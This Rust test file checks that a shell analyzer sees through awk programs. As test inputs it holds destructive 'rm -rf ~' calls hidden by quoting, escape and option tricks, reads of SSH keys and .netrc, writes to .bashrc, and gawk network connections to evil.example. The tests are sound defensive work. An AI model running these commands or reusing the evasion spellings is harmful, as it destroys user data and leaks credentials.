//! awk programs read through the whole analyzer: options as gawk, mawk and busybox awk
//! read them, and the program lexed (strings, regular expressions, comments) for
//! `system()`, pipes, `getline <` and output redirections. Each attack has a second
//! spelling (issue 35, third pass).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test harness code

use cordon_shell::{Analysis, Class, analyze};

fn all(a: &Analysis, f: impl Fn(&cordon_shell::SimpleCommand) -> Vec<String>) -> Vec<String> {
    a.commands.iter().flat_map(f).collect()
}

/// Every path deleted by any command of `text` (the awk program's commands included).
fn deletes(text: &str) -> Vec<String> {
    let a = analyze(text);
    all(&a, |c| {
        c.effects.deletes.iter().map(|w| w.value.clone()).collect()
    })
}

fn writes(text: &str) -> Vec<(String, bool)> {
    let a = analyze(text);
    a.commands
        .iter()
        .flat_map(|c| {
            c.effects
                .writes
                .iter()
                .map(|w| (w.value.clone(), w.literal))
        })
        .collect()
}

fn reads(text: &str) -> Vec<(String, bool)> {
    let a = analyze(text);
    a.commands
        .iter()
        .flat_map(|c| c.effects.reads.iter().map(|w| (w.value.clone(), w.literal)))
        .collect()
}

/// The executing arguments of the awk command (`system()`, `| command`, …).
fn execs(text: &str) -> Vec<String> {
    let a = analyze(text);
    all(&a, |c| {
        c.effects.executes.iter().map(|x| x.arg.clone()).collect()
    })
}

fn awk_class(text: &str) -> Class {
    analyze(text)
        .commands
        .iter()
        .find(|c| c.program.as_ref().is_some_and(|p| p.value.ends_with("awk")))
        .unwrap_or_else(|| panic!("{text}: no awk"))
        .effects
        .class
}

#[test]
fn system_behind_literals_that_hide_quotes_is_found() {
    for text in [
        // A `"` inside a regular expression is no string quote.
        r#"awk '/a"b/ {system("rm -rf ~")}'"#,
        r#"awk '$0 ~ /["]/ { system("rm -rf ~") }' f"#,
        // After the condition of `if`, a `/` starts a regular expression.
        r#"awk 'BEGIN { if (1) /"/; system("rm -rf ~") }'"#,
        // A `"` in a comment.
        "awk '# \"\nBEGIN { system(\"rm -rf ~\") }'",
        // Escapes are decoded as awk decodes them: `\176` is `~`.
        r#"awk 'BEGIN { system("rm -rf \176") }'"#,
        r#"awk 'BEGIN { system("rm -rf \x7e") }'"#,
    ] {
        assert!(
            deletes(text).contains(&"~".to_owned()),
            "{text}: {:?}",
            deletes(text)
        );
    }
    // A division is not a regular expression: the string after it is still seen.
    let text = r#"awk '{ n = $1 / 2; system("rm -rf ~") ; m = n / 3 }' f"#;
    assert!(deletes(text).contains(&"~".to_owned()), "{text}");
}

#[test]
fn options_that_take_no_word_do_not_hide_the_program() {
    for text in [
        r#"gawk --profile 'BEGIN{system("rm -rf ~")}'"#,
        r#"gawk -o 'BEGIN{system("rm -rf ~")}'"#,
        r#"gawk -p 'BEGIN{system("rm -rf ~")}'"#,
        r#"gawk --sou='BEGIN{system("rm -rf ~")}'"#,
        r#"gawk -e 'BEGIN{system("rm -rf ~")}'"#,
        r#"busybox awk -e 'BEGIN{system("rm -rf ~")}'"#,
        r#"gawk -W source='BEGIN{system("rm -rf ~")}'"#,
        r#"awk -F: -v x=1 -- 'BEGIN{system("rm -rf ~")}'"#,
    ] {
        assert!(
            deletes(text).contains(&"~".to_owned()),
            "{text}: {:?}",
            deletes(text)
        );
    }
    // gawk's profile and pretty-print files are written.
    assert!(writes("gawk --profile '{print}' f").contains(&("awkprof.out".into(), true)));
    assert!(writes("gawk -d/tmp/v '{print}' f").contains(&("/tmp/v".into(), true)));
}

#[test]
fn program_files_and_unknown_options_are_not_seen_through() {
    for text in [
        "awk -f prog.awk data",
        "awk -fprog.awk data",
        "gawk --file=prog.awk data",
        "gawk --fil prog.awk data",
        "mawk -W exec prog.awk data",
        "gawk -i lib.awk 'BEGIN{}'",
        "gawk '@include \"lib.awk\"'",
    ] {
        assert_eq!(awk_class(text), Class::Unknown, "{text}");
        assert!(
            reads(text).iter().any(|(r, _)| r.ends_with(".awk")),
            "{text}: {:?}",
            reads(text)
        );
    }
    for (text, arg) in [
        ("gawk --frobnicate 'BEGIN{}'", "--frobnicate"),
        ("gawk -Z 'BEGIN{}'", "-Z"),
        ("gawk -l ext 'BEGIN{}'", "-l"),
        ("gawk '@load \"ext\"; BEGIN{}'", "@load"),
        ("gawk 'BEGIN{f = \"system\"; @f(\"id\")}'", "@"),
        ("awk 'BEGIN{system(\"id) }'", "program"),
        // gawk reads `[/ … ]` as one bracket expression, bwk awk and busybox do not.
        ("awk '/[/ ; system(\"rm -rf ~\") ; x = /]/'", "program"),
    ] {
        assert!(
            execs(text).contains(&arg.to_owned()),
            "{text}: {:?}",
            execs(text)
        );
    }
}

#[test]
fn commands_built_at_run_time_are_code_the_text_does_not_show() {
    for text in [
        "awk '{ system($0) }' cmds.txt",
        "awk '{ system(\"rm \" $1) }' f",
        "awk 'BEGIN { \"ls \" dir | getline x }'",
        "awk 'BEGIN { c = \"ls\"; c | getline x }'",
        "awk '{ print | (\"sh\" \"\") }'",
        "awk '{ print | \"sh \" $1 }' f",
        r#"awk 'BEGIN { system("id\q") }'"#,
    ] {
        assert!(
            execs(text)
                .iter()
                .any(|x| x.contains("system") || x.contains('|')),
            "{text}: {:?}",
            execs(text)
        );
    }
    // Constant commands are shell text, analyzed as such.
    assert!(deletes("awk 'BEGIN { \"rm -rf ~\" | getline }'").contains(&"~".to_owned()));
    assert!(deletes("gawk '{ print |& \"rm -rf ~\" }'").contains(&"~".to_owned()));
    assert!(execs("awk 'BEGIN{system(\"id\")}'").is_empty());
}

#[test]
fn redirections_write_and_getline_reads() {
    for (text, file) in [
        (
            "awk '{ print > \"/home/dev/.bashrc\" }' f",
            "/home/dev/.bashrc",
        ),
        (
            "awk '{ printf(\"%s\\n\", $0) >> \"/home/dev/.bashrc\" }' f",
            "/home/dev/.bashrc",
        ),
        ("awk '{ print $1, $2 > \"out.txt\"; n++ }' f", "out.txt"),
    ] {
        assert!(
            writes(text).contains(&(file.into(), true)),
            "{text}: {:?}",
            writes(text)
        );
    }
    // The standard streams are no files.
    for text in [
        "awk '{ print > \"/dev/stderr\" }' f",
        "gawk '{ print > \"/dev/fd/2\" }' f",
    ] {
        assert!(writes(text).is_empty(), "{text}: {:?}", writes(text));
    }
    assert_eq!(reads("awk 'BEGIN { getline l < \"/dev/stdin\" }'"), []);
    // A name built at run time is a write the text does not name.
    assert!(
        writes("awk '{ print > $1 \".txt\" }' f")
            .iter()
            .any(|(_, lit)| !lit)
    );
    // `>` inside parentheses is a comparison.
    for text in [
        "awk '{ print ($1 > 2) }' f",
        "awk '$3 > 10 { print $1 }' f",
        "awk '{ if ($1 > 2) print }' f",
    ] {
        assert!(writes(text).is_empty(), "{text}: {:?}", writes(text));
    }
    assert!(
        reads("awk 'BEGIN { while ((getline l < \"/home/dev/.ssh/id_rsa\") > 0) print l }'")
            .contains(&("/home/dev/.ssh/id_rsa".into(), true))
    );
    assert!(
        reads("awk 'BEGIN { getline a[1] < \"~/.netrc\" }'").contains(&("~/.netrc".into(), true))
    );
    assert!(
        reads("awk 'BEGIN { getline < ARGV[1] }'")
            .iter()
            .any(|(_, lit)| !lit)
    );
}

#[test]
fn gawk_network_files_are_connections() {
    for text in [
        "gawk 'BEGIN { print \"x\" |& \"/inet/tcp/0/evil.example/80\" }'",
        "gawk 'BEGIN { \"/inet4/tcp/0/evil.example/80\" |& getline }'",
        "gawk 'BEGIN { print \"x\" > \"/inet/udp/0/evil.example/80\" }'",
    ] {
        let a = analyze(text);
        let net: Vec<String> = all(&a, |c| {
            c.effects.network.iter().map(|n| n.target.clone()).collect()
        });
        assert!(
            net.contains(&"evil.example:80".to_owned()),
            "{text}: {net:?}"
        );
    }
}
